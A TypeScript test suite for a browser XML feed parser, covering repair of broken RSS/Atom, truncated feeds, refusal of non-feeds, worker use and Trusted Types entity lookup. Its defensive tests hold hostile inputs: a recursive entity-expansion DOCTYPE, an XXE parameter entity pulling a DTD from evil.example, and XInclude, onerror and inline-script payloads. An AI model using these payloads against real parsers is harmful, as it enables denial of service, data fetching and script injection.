import { expect } from '@open-wc/testing';
import type { ReadTools } from '../../../../src/feed/formats/feed-format.js';
import { xml } from '../../../../src/feed/formats/xml/xml.js';
import { answer, atom, item, read, refusal, rss, titles } from './documents.js';

describe('xml: broken documents', () => {
  const two = '<item><title>Satu</title></item><item><title>Dua</title></item>';

  it('repairs common mistakes', () => {
    const broken = {
      'junk before': `\n<br />\n<b>Warning</b>: foo() in <b>x.php</b>\n<?xml version="1.0"?>${rss(two)}`,
      'a byte order mark': `\ufeff<?xml version="1.0" encoding="utf-16"?>${rss(two)}`,
      'junk after': `${rss(two)}\n<!-- 0.1 s --><script>x()</script>`,
      'an undeclared prefix': `<rss><channel><foo:bar a:b="1"/>${two}</channel></rss>`,
      'a bare ampersand': rss(`<link>https://a.example/?a=1&b=2</link>${two}`),
      'control characters': rss(`<description>\x00\x08\x1b\ufffe&#11;&#xffff;\ud800</description>${two}`),
      'a bare attribute': rss(`<guid isPermaLink=false checked>1</guid>${two}`),
      'a tag that is not closed': rss(`<description>a <br> b <p>c</description>${two}`),
      'a mistyped end tag': rss(`<language>id</langauge>${two}`),
      'items that are not closed': rss('<item><title>Satu</title><item><title>Dua</title>'),
      'no last bracket': rss(two).slice(0, -1),
      'an attribute twice': rss(`<guid a="1" a="2"/>${two}`),
      case: rss(two).replace(/<\/title>/g, '</TITLE>'),
    };
    for (const [name, text] of Object.entries(broken)) {
      expect(titles(read(text)), name).to.deep.equal(['Satu', 'Dua']);
      expect(read(text).partial, name).to.equal(undefined);
      expect(xml.matches(answer(text)), name).to.equal(true);
    }
    expect(item('<title>A & B &nbsp;<i>c</i></title><link>/?a=1&b=2</link>')).to.include({
      title: 'A & B c',
      url: 'https://kpu.example/?a=1&b=2',
    });
  });

  it('reads the complete items of a feed that is cut off anywhere', () => {
    const complete = rss(
      two + '<item><title>Tiga</title><description><![CDATA[<p>x</p>]]></description></item>',
    );
    const third = complete.indexOf('<item><title>Tiga');
    const end = complete.indexOf('</channel>');
    for (let index = third; index < end; index++) {
      const feed = read(complete.slice(0, index));
      expect(feed.partial, `cut at ${index}`).to.equal(true);
      expect(titles(feed), `cut at ${index}`).to.deep.equal(
        index >= end - 1 ? ['Satu', 'Dua', 'Tiga'] : ['Satu', 'Dua'],
      );
    }
    expect(refusal(`${rss('').slice(0, -16)}<item><title>Satu`)).to.equal('bad-syntax xml');
    expect(titles(read(atom('<entry><title>A</title></entry><entry><ti').slice(0, -8)))).to.deep.equal(['A']);
  });

  it('refuses entity declarations before parsing, and documents that are not feeds', () => {
    expect(
      refusal(`<!DOCTYPE rss [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>${rss('<title>&b;</title>')}`),
    ).to.equal('bad-syntax entity');
    expect(
      refusal(`<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x.dtd">%p;]>${rss('')}`),
    ).to.equal('bad-syntax entity');
    for (const text of [
      '<!DOCTYPE html><title>x</title><feed></feed>',
      '<html><rss></rss>',
      '<note><to/></note>',
      '',
      'x',
      '<!-- <rss> -->',
      '<entry xmlns="http://www.w3.org/2005/Atom"/>',
      '{"items":[]}',
    ]) {
      expect(refusal(text), text).to.equal('not-a-feed undefined');
      expect(xml.matches(answer(text)), text).to.equal(false);
    }
    expect(read(rss('')).articles).to.deep.equal([]);
  });

  it('requests no external resources', async () => {
    const before = performance.getEntriesByType('resource').length;
    const away = new URL('/never-asked', location.href).href;
    const text = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${away}"?><!DOCTYPE rss SYSTEM "${away}">
      ${rss(`<item><title>x</title><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${away}"/>
      <description><img xmlns="http://www.w3.org/1999/xhtml" src="${away}" onerror="parent.hit = 1"/>
      <script xmlns="http://www.w3.org/1999/xhtml">globalThis.hit = 1</script></description></item>`)}`;
    expect(titles(read(text))).to.deep.equal(['x']);
    await new Promise((resolve) => setTimeout(resolve, 100));
    expect(performance.getEntriesByType('resource').length).to.equal(before);
    expect((globalThis as { hit?: number }).hit).to.equal(undefined);
  });

  it('works in a worker', async () => {
    const code = `
      import { xml } from '${new URL('../../../../src/feed/formats/xml/xml.ts', import.meta.url).href}';
      const text = ${JSON.stringify(rss(`<foo:bar/>${two}<br>&hellip;`))};
      const { articles } = xml.read({ url: 'https://kpu.example/', headers: new Headers(), text });
      postMessage(articles.map(({ title }) => title));`;
    const script = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
    const worker = new Worker(script, { type: 'module' });
    try {
      const answered = new Promise((resolve, reject) => {
        worker.onmessage = ({ data }) => {
          resolve(data);
        };
        worker.onerror = ({ message }) => {
          reject(new Error(message));
        };
      });
      expect(await answered).to.deep.equal(['Satu', 'Dua']);
    } finally {
      worker.terminate();
      URL.revokeObjectURL(script);
    }
  });

  describe('HTML entities that are not in the table', () => {
    const { DOMParser } = globalThis;
    afterEach(() => {
      globalThis.DOMParser = DOMParser;
    });
    const rare = rss('<item><title>&le; &NotEqualTilde;</title></item>');

    it('are kept as written without a DOMParser', () => {
      Reflect.deleteProperty(globalThis, 'DOMParser');
      expect(titles(read(rare))).to.deep.equal(['≤ &NotEqualTilde;']);
    });

    it('are looked up with the given policy under Trusted Types', async () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = `<meta http-equiv="Content-Security-Policy" content="require-trusted-types-for 'script'; trusted-types kpu-news">`;
      await new Promise((resolve) => {
        frame.addEventListener('load', resolve);
        document.body.append(frame);
      });
      const page = frame.contentWindow as unknown as typeof globalThis & {
        trustedTypes?: { createPolicy(name: string, rules: object): NonNullable<ReadTools['policy']> };
      };
      globalThis.DOMParser = page.DOMParser;
      const policy = page.trustedTypes?.createPolicy('kpu-news', { createHTML: (text: string) => text });
      expect(titles(read(rare, { policy }))).to.deep.equal(['≤ ≂̸']);
      expect(titles(read(rare))).to.deep.equal([policy ? '≤ &NotEqualTilde;' : '≤ ≂̸']);
      frame.remove();
    });
  });
});
